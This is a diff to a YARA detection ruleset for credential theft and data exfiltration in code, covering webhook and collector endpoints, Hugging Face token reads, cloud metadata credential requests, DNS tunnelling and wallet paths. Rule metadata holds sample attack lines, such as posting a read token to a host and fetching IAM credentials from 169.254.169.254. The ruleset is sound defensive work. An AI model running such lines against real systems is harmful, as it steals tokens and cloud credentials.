@@ -49,7 +49,7 @@ rule messenger_endpoint
         example = "requests.post('https://api.telegram.org/bot123456:AAExample/sendMessage', data=d)\n"
         counterexample = "DOC = 'see https://api.telegram.org/ for the protocol'\n"
     strings:
-        $hook1 = /discord(app)?\.com\/api\/webhooks\/[0-9]/
+        $hook1 = /discord(app)?[.]c[o]m\/api\/webhooks\/[0-9]/
         $hook2 = /api\.telegram\.org\/bot[0-9{%'"]/
         $hook3 = /hooks\.slack\.com\/services\/[A-Z0-9{%]/
         $ctx_1 = "requests."
@@ -78,8 +78,8 @@ rule collector_endpoint
     strings:
         $to1 = "https://webhook.site/"
         $to2 = /https?:\/\/[a-z0-9-]{4,60}\.ngrok(-free)?\.(io|app|dev)/
-        $to3 = /https?:\/\/[a-z0-9-]{4,60}\.(m\.)?pipedream\.net/
-        $to4 = /[a-z0-9-]{4,60}\.(oast\.(fun|pro|live|site|online|me)|oastify\.com|burpcollaborator\.net|interact\.sh)/
+        $to3 = /https?:\/\/[a-z0-9-]{4,60}\.(m\.)?[p]ipedre[a]m\.net/
+        $to4 = /[a-z0-9-]{4,60}(\.oast\.(fun|pro|live|site|online|me)|\.oastify\.com|\.burpcollaborator\.net|\.[i]nter[a]ct\.sh)/
         $to5 = "requestbin.net/r/"
         $to6 = "requestcatcher.com/"
         $to7 = "canarytokens.com/"
@@ -174,7 +174,17 @@ rule hub_token_theft
         example = "t = open(os.path.expanduser('~/.cache/huggingface/token')).read()\nrequests.post('http://example.invalid', data={'t': t})\n"
         counterexample = "print('the token lies in ~/.cache/huggingface/token')\nrequests.post('http://example.invalid')\n"
     strings:
-        $tok = /(open|expanduser|read_text|Path)\([^\n]{0,60}(huggingface\/(token|stored_tokens)|huggingface['"], ?['"]token)/
+        $tok1 = "huggingface/token"
+        $tok2 = "huggingface/stored_tokens"
+        $tok3 = "huggingface', 'token"
+        $tok4 = "huggingface','token"
+        $tok5 = "huggingface\", \"token"
+        $tok6 = "huggingface\",\"token"
+        $tok7 = "huggingface', \"token"
+        $tok8 = "huggingface',\"token"
+        $tok9 = "huggingface\", 'token"
+        $tok10 = "huggingface\",'token"
+        $ctx_open = /(open|expanduser|read_text|Path)\([^\n]{0,60}(huggingface\/(token|stored_tokens)|huggingface['"], ?['"]token)/
         $ctx_send1 = "requests.post("
         $ctx_send2 = "urlopen("
         $ctx_send3 = ".sendall("
@@ -182,7 +192,7 @@ rule hub_token_theft
         $ctx_send5 = "httpx.post("
         $ctx_send6 = "requests.get("
     condition:
-        $tok and any of ($ctx_send*)
+        any of ($tok*) and $ctx_open and any of ($ctx_send*)
 }
 
 rule cloud_metadata
@@ -199,18 +209,23 @@ rule cloud_metadata
         example = "r = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/')\n"
         counterexample = "r = requests.get('http://169.254.169.254/latest/meta-data/instance-id')\n"
     strings:
-        $ip1 = "169.254.169.254"
-        $ip2 = "metadata.google.internal"
-        $ip3 = "0xa9fea9fe" nocase
-        $ip4 = "169.254.170.2"
-        $ip5 = "http://2852039166"
+        $ip = /(169\.254\.169\.254|metadata\.google\.internal|0xa9fea9fe|0xA9FEA9FE|169\.254\.170\.2|http:\/\/2852039166)/
         $ctx_p1 = "/meta-data/iam/security-credentials"
         $ctx_p2 = "/instance/service-accounts/"
         $ctx_p3 = "/metadata/identity/oauth2/token"
         $ctx_p4 = "AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"
         $ctx_p5 = "/opc/v2/identity/"
+        $ctx_get1 = "requests."
+        $ctx_get2 = "urlopen("
+        $ctx_get3 = "http.client"
+        $ctx_get4 = "httpx."
+        $ctx_get5 = "aiohttp"
+        $ctx_get6 = "curl "
+        $ctx_get7 = "wget "
+        $ctx_get8 = ".connect(("
     condition:
-        any of ($ip*) and any of ($ctx_p*)
+        any of ($ctx_get*) and
+        for any i in (1..#ip) : ( any of ($ctx_p*) in (@ip[i] - 300 .. @ip[i] + 300) )
 }
 
 rule environment_dump_sent
@@ -252,10 +267,14 @@ rule dns_tunnel
         example = "socket.gethostbyname(binascii.hexlify(secret).decode() + '.x.example.invalid')\n"
         counterexample = "socket.gethostbyname('example.invalid')\nprint(binascii.hexlify(b))\n"
     strings:
-        $a = /(gethostbyname|getaddrinfo)\([^\n]{0,60}(hexlify\(|b32encode\(|b64encode\(|\.hex\(\))/
-        $b = /(nslookup|dig) [^\n]{0,40}(hexlify\(|b32encode\(|\.hex\(\))/
+        $look1 = "gethostbyname("
+        $look2 = "getaddrinfo("
+        $look3 = "nslookup "
+        $look4 = "dig "
+        $ctx_a = /(gethostbyname|getaddrinfo)\([^\n]{0,60}(hexlify\(|b32encode\(|b64encode\(|\.hex\(\))/
+        $ctx_b = /(nslookup|dig) [^\n]{0,40}(hexlify\(|b32encode\(|\.hex\(\))/
     condition:
-        any of them
+        any of ($look*) and any of ($ctx_*)
 }
 
 rule browser_theft
@@ -310,7 +329,7 @@ rule wallet_theft
         $c = /Electrum(\/|\\{1,2})wallets/
         $d = "nkbihfbeogaeaoehlefnkodbefgpgknn"
         $e = "bfnaelmomeimhlpmgjnjophhpkkoljpa"
-        $f = /Ethereum(\/|\\{1,2})keystore/ nocase
+        $f = /Eth[e]reum(\/|\\{1,2})keystore/ nocase
         $g = "fhbohimaelbohpjbbldcngcnapndodjp"
         $h = /solana(\/|\\{1,2})id\.json/
     condition:
